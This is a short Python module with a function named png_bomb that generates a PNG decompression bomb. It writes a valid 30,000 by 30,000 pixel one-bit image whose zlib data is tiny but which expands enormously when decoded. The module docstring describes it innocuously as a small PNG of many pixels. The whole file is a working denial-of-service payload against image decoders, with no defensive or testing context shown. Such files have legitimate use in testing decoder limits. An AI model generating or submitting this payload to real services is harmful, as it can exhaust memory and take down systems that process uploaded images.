"""A small PNG file of many pixels."""

import struct
import zlib


def png_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    """A valid black picture, a thousandth of a byte per pixel."""
    packer = zlib.compressobj(1)
    row = bytes((width + 7) // 8 + 1)
    data = b"".join([packer.compress(row * 100) for _ in range(height // 100)] + [packer.flush()])
    header = struct.pack(">2I5B", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(map(_chunk, (b"IHDR", b"IDAT", b"IEND"), (header, data, b"")))


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
